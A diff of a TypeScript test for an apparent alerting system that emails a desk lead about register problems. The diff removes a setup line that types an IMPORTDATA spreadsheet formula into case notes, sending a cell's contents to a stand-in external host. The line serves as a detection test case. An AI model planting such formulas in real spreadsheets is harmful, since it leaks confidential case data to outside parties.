@@ -10,16 +10,18 @@ import { admin, backup, contact, lead } from "../day/people";
 
 test("what is found within an hour goes out in one email, and is not repeated within a week", async () => {
   const day = await Day.begin();
-  const formula = '=IMPORTDATA("https://a.example/?q="&Cases!H3)';
-  const typed = { edit: { case: "26-0001", set: { notes: formula } }, as: "contact" };
   const told = () => mailTo(day.out(), lead).filter(({ message }) => message === "desk-notice");
-  day.play(reportOn("Alex Doe", "1001"), typed, { advance: "PT45M" });
-  day.play(editContacts(backup, { mayOpen: false }), { advance: "PT2H30M" });
-  expect(told()).toHaveLength(1);
-  expect(told()[0]?.text).toMatch(/FORMULA INTO A REGISTER[\s\S]*WHO CAN OPEN A REGISTER NOW/);
+  day.play(editContacts(backup, { mayOpen: false }), { advance: "PT2H" });
+  const before = told().length;
+  const driveOff = { account: { turnOffService: "Drive" } };
+  day.play(driveOff, editContacts(backup, { mayOpen: true }), { advance: "PT5H" });
+  expect(told()).toHaveLength(before + 1);
+  const text = told().at(-1)?.text;
+  expect(text).toMatch(/SERVICE OF GOOGLE/);
+  expect(text).toMatch(/WHO CAN OPEN A REGISTER NOW/);
   day.sleep("P2D");
   day.play({ advance: "PT2H" });
-  expect(told()).toHaveLength(1);
+  expect(told()).toHaveLength(before + 1);
 });
 
 test("an urgent one goes out within the hour and daily until it is fixed, and at once when it comes again", async () => {
